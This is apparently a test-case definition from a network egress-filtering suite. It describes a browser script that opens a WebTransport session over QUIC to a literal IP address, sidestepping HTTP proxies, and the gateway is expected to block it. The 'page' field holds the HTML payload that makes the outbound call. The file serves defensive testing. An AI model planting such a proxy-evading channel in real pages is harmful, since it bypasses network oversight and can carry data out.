"""A script opens a WebTransport session.

HTTP/3 over QUIC, that is UDP on port 443, which no proxy for HTTP sees.

Not covered: QUIC that a browser would choose by itself for a permitted site; the gateway offers none.
"""

ATTACK = {
    "title": "WebTransport over QUIC",
    "group": "browser",
    "layer": "room",
    "risk": "exfiltration",
    "references": ["RFC 9000", "W3C WebTransport"],
    "arrives": [{"what": "udp", "port": 443}],
    "stopped": [
        {
            "reason": ["literal-address"],
            "entry": ["udp"],
            "where": {"address": "93.184.216.66", "port": "443"},
        }
    ],
    "page": "<h1>Stream</h1><script>const way = new "
    "WebTransport('https://93.184.216.66:443/quic'); way.closed.catch(() => 0); "
    "way.ready.catch(() => 0)</script>",
}
